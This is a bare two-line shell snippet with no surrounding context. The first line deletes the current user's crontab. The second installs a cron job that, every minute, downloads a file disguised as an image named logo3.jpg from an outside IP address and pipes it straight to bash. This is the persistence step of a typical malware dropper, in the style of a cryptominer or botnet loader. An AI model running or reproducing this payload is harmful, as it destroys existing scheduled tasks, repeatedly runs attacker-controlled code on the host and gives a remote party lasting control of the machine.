crontab -r
(crontab -l 2>/dev/null; echo "* * * * * curl -s http://198.51.100.18:8220/logo3.jpg | bash -s") | crontab -
